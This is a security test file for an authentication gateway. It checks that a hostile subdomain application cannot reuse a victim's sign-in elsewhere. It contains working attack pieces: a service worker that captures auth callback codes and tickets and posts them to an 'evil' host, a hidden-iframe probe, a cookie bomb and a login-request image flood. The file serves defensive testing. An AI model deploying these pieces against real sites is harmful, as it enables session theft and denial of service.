import { afterEach, beforeEach, expect, setDefaultTimeout } from 'bun:test'
import type { IncomingMessage, ServerResponse } from 'node:http'
import type { Browser, Page } from 'playwright-core'
import { holdFreePort } from '../../src/cli/demo/start.ts'
import { type App, startApp } from '../kit/applications/app.ts'
import { BrowserLite } from '../kit/browser/browser-lite.ts'
import { openChromium, type WatchedContext, watchedContext } from '../kit/browser/chromium.ts'
import { type Gate, startGate } from '../kit/gate.ts'
import { needs } from '../kit/needs.ts'
import { freePort } from '../kit/programs/child.ts'
import { startProvider, type TestProvider } from '../kit/provider/provider.ts'
import { providerTable, routeTo } from '../kit/toml.ts'

const { afterAll, beforeAll, describe, test } = needs('chromium')

setDefaultTimeout(300_000)

/**
 * An application behind the gate whose owner wants to be somebody else, and has everything that an application has: its pages'
 * scripts, a service worker and cookies on its host, and a client of their own. All hosts are of one site, as subdomains are.
 */
const HOSTS = ['auth', 'evil', 'good', 'held', 'evil-alone', 'good-alone'] as const
type Host = (typeof HOSTS)[number]

let browser: Browser
let provider: TestProvider
let hostile: App
let honest: App
let gate: Gate
let port: number
/** What the hostile application has read of addresses that are not its own. */
const loot: string[] = []
let victim: WatchedContext
let attacker: BrowserLite

const at = (host: Host) => `http://${host}.home.localhost:${port}`
const hostOf = (host: Host) => `${host}.home.localhost`

beforeAll(async () => {
  const free = holdFreePort(await freePort(), 1)
  if (free === null) throw new Error('no port is free')
  port = free.port
  await free.stop()
  provider = await startProvider({
    host: 'localhost',
    clients: [{ client_id: 'gate', client_secret: 'gate-secret' }],
    accounts: [{ sub: 'victim', preferred_username: 'victim' }],
  })
  for (const host of ['auth', 'evil-alone', 'good-alone'] as const)
    provider.allowRedirect(`${at(host)}/.sallyport/callback`)
  hostile = await startApp(beHostile)
  honest = await startApp((request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(`<!doctype html><p id="who">${request.headers['x-token-subject'] ?? 'nobody'}</p>`)
  })
  const route = (host: Host, app: App, more: string) => routeTo(app, `${hostOf(host)}`, `headers = "x-token"\n${more}`)
  gate = await startGate(
    `${providerTable(provider)}
[portals.home]
url = "${at('auth')}"
providers = ["id"]
insecure_cookies = true

[portals.alone]
providers = ["id"]
insecure_cookies = true

${[
  route('evil', hostile, 'portal = "home"\nallow = "authenticated"'),
  route('held', hostile, 'portal = "home"\nallow = "authenticated"\nservice_workers = false'),
  route('good', honest, 'portal = "home"\nallow = "authenticated"'),
  route('evil-alone', hostile, 'portal = "alone"\nallow = "public"'),
  route('good-alone', honest, 'portal = "alone"\nallow = "authenticated"'),
].join('\n')}`,
    { listen: `127.0.0.1:${port}` },
  )
  browser = await openChromium()
})
afterAll(async () => {
  await browser?.close()
  await gate?.[Symbol.asyncDispose]()
  await Promise.all([provider?.stop(), hostile?.stop(), honest?.stop()])
})
beforeEach(async () => {
  loot.length = 0
  victim = await watchedContext(browser)
  attacker = new BrowserLite({
    hosts: Object.fromEntries(HOSTS.map(host => [new URL(at(host)).host, `127.0.0.1:${port}`])),
  })
})
afterEach(() => victim.context.close())

function beHostile(request: IncomingMessage, response: ServerResponse): void {
  if (request.method === 'POST') {
    let body = ''
    request.on('data', chunk => {
      body += String(chunk)
    })
    request.on('end', () => {
      if (!loot.includes(body)) loot.push(body)
      response.end('told')
    })
    return
  }
  const isScript = request.url === '/worker.js'
  response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html')
  response.end(isScript ? WORKER : '<!doctype html><title>Harmless</title>')
}

/** Tells where the browser was about to go, until its application has heard it, and lets it go nowhere. */
const WORKER = `
async function tell(url) {
  for (let times = 0; times < 20; times++) {
    const answer = await fetch('/loot', { method: 'POST', body: url }).then(one => one.text()).catch(() => '')
    if (answer === 'told') return 'caught'
  }
  return 'not heard'
}
self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', event => event.waitUntil(self.clients.claim()))
self.addEventListener('fetch', event => {
  if (!new URL(event.request.url).pathname.startsWith('/.sallyport/')) return
  const told = tell(event.request.url)
  event.respondWith(told.then(word => new Response(word, { headers: { 'content-type': 'text/html' } })))
})`

const INSTALL = `navigator.serviceWorker.register('/worker.js')
  .then(() => navigator.serviceWorker.ready)
  .then(() => navigator.serviceWorker.controller ?? new Promise(done => { navigator.serviceWorker.oncontrollerchange = done }))
  .then(() => 'installed', () => 'refused')`

/** Loads an address in a frame that nobody sees; answers where it ended, as far as the page may read that. */
const inFrame = (address: string) => `new Promise(done => {
  const frame = document.createElement('iframe')
  frame.hidden = true
  frame.onload = () => {
    try { done(frame.contentWindow.location.href) } catch { done('unreadable') }
  }
  frame.src = ${JSON.stringify(address)}
  document.body.append(frame)
})`

/** The victim signs in at a host as everyone does. */
async function signIn(host: Host): Promise<Page> {
  const page = await victim.open(`${at(host)}/`)
  await page.getByLabel('Login').fill('victim')
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.waitForURL(`${at(host)}/`)
  return page
}

/** Where the gate sends the attacker's own client, with its own cookies, when it asks for a page. */
async function askedBy(client: BrowserLite, address: string): Promise<string> {
  const answer = await client.visit(address)
  await answer.body?.cancel()
  return answer.headers.get('location') ?? ''
}

/** The attacker's client asks for an address that was caught, on any host, with every cookie that it has on any host. */
async function bring(caught: string, host: Host): Promise<Response> {
  for (const from of HOSTS) {
    for (const { name, value } of attacker.cookiesLike(hostOf(from), 'sallyport'))
      attacker.plant(hostOf(host), name, value)
  }
  const { pathname, search } = new URL(caught)
  return attacker.visit(`${at(host)}${pathname}${search}`)
}

/** Who the attacker's client is on a host. */
async function whoIs(host: Host): Promise<string> {
  const answer = await attacker.visit(`${at(host)}/.sallyport/me`, { headers: { accept: 'application/json' } })
  const person: unknown = answer.status === 200 ? await answer.json() : {}
  return typeof person === 'object' && person !== null && 'subject' in person ? String(person.subject) : 'nobody'
}

describe('an application that reads what its visitors’ browsers bring', () => {
  test('has code and state of a sign-in that it began itself, and is nobody on another host by them', async () => {
    // The victim is signed in at the provider, and then only looks at a public page.
    await signIn('good-alone')
    const page = await victim.open(`${at('evil-alone')}/`)
    expect(await page.evaluate(INSTALL)).toBe('installed')
    const begun = await askedBy(attacker, `${at('evil-alone')}/.sallyport/login?return=/`)
    await page.goto(begun)
    expect(await page.textContent('body')).toBe('caught')
    expect(loot).toHaveLength(1)
    expect(loot[0]).toStartWith(`${at('evil-alone')}/.sallyport/callback?code=`)
    for (const host of ['good-alone', 'auth', 'good'] as const) {
      const answer = await bring(loot[0] ?? '', host)
      expect([host, answer.status >= 400, await whoIs(host)]).toEqual([host, true, 'nobody'])
    }
  })

  test('is given no ticket in a frame that nobody sees', async () => {
    const page = await signIn('evil')
    expect(await page.evaluate(INSTALL)).toBe('installed')
    const asked = await askedBy(attacker, `${at('evil')}/`)
    expect(asked).toStartWith(`${at('auth')}/.sallyport/login?to=`)
    const given = page.waitForResponse(answer => answer.url() === asked)
    expect(await page.evaluate(inFrame(asked))).toBe('unreadable')
    expect([(await given).status(), loot]).toEqual([403, []])
  })

  test('is given none by cookies that make its host refuse the request', async () => {
    const page = await signIn('evil')
    await page.evaluate(
      `for (let n = 0; n < 25; n++) document.cookie = 'bomb' + n + '=' + 'x'.repeat(3500) + '; path=/.sallyport/enter'`,
    )
    const asked = await askedBy(attacker, `${at('evil')}/`)
    const seen: string[] = []
    page.on('request', request => void seen.push(new URL(request.url()).pathname))
    expect(await page.evaluate(inFrame(asked))).toBe('unreadable')
    expect(seen).toEqual(['/.sallyport/login'])
  })

  test('is its visitor on its own host alone, by a ticket that a window brings: that is what remains', async () => {
    const page = await signIn('evil')
    expect(await page.evaluate(INSTALL)).toBe('installed')
    await page.goto(await askedBy(attacker, `${at('evil')}/`))
    expect(loot).toHaveLength(1)
    const [caught = ''] = loot
    expect(caught).toStartWith(`${at('evil')}/.sallyport/enter?ticket=`)
    for (const host of ['good', 'auth', 'good-alone'] as const) {
      const answer = await bring(caught, host)
      expect([host, answer.status >= 400, await whoIs(host)]).toEqual([host, true, 'nobody'])
    }
    // Nor is that ticket good where it belongs any more. With another one, the attacker is who the script could be anyway.
    expect([(await bring(caught, 'evil')).status, await whoIs('evil')]).toEqual([400, 'nobody'])
    await page.goto(await askedBy(attacker, `${at('evil')}/`))
    expect([(await bring(loot[1] ?? '', 'evil')).status, await whoIs('evil')]).toEqual([303, 'victim'])
    for (const { name, value } of attacker.cookiesLike(hostOf('evil'), 'sallyport')) {
      attacker.plant(hostOf('good'), name, value)
    }
    expect(await whoIs('good')).toBe('nobody')
  })

  test.each(['evil', 'held'] as const)('gets nowhere by a script that claims to load a page: %s', async host => {
    const page = await signIn(host)
    await victim.context.clearCookies({ domain: hostOf(host) })
    const claim = (path: string, redirect: string) =>
      page.evaluate(`fetch('${path}', {
        mode: 'same-origin', redirect: '${redirect}', headers: { 'Upgrade-Insecure-Requests': '1', Accept: 'text/html' },
      }).then(reply => [reply.type, reply.status, reply.headers.get('location')], () => 'failed')`)
    const answered: string[] = []
    page.on('response', answer => void answered.push(new URL(answer.url()).origin))
    for (const path of ['/', '/.sallyport/login']) {
      // It is led to where people sign in, and neither goes there nor reads where that is.
      expect(await claim(path, 'manual')).toEqual(['opaqueredirect', 0, null])
      expect(await claim(path, 'follow')).toBe('failed')
    }
    expect(new Set(answered)).toEqual(new Set([at(host)]))
    expect(await whoIs(host)).toBe('nobody')
    await page.goto(`${at(host)}/`)
    expect(await page.title()).toBe('Harmless')
  })

  test('has no service worker where the route says so', async () => {
    const page = await signIn('held')
    expect(await page.evaluate(INSTALL)).toBe('refused')
    await page.reload()
    expect(await page.evaluate('navigator.serviceWorker.controller')).toBeNull()
  })
})

test('a page that asks for sign-ins by images, one after the other, keeps none of its visitors from signing in', async () => {
  const flood = await victim.open(`${at('evil-alone')}/`)
  await flood.evaluate(`
    self.count = 0
    const next = () => {
      const image = new Image()
      image.onload = image.onerror = () => { self.count++; next() }
      image.src = '${at('auth')}/.sallyport/login?n=' + Math.random()
    }
    for (let n = 0; n < 6; n++) next()`)
  // More than one address may begin at once.
  await flood.waitForFunction('self.count > 800', undefined, { timeout: 240_000 })
  const page = await victim.context.newPage()
  const answer = await page.goto(`${at('good')}/`)
  expect([answer?.status(), new URL(page.url()).origin]).toEqual([200, provider.issuer])
  await flood.close()
}, 300_000)
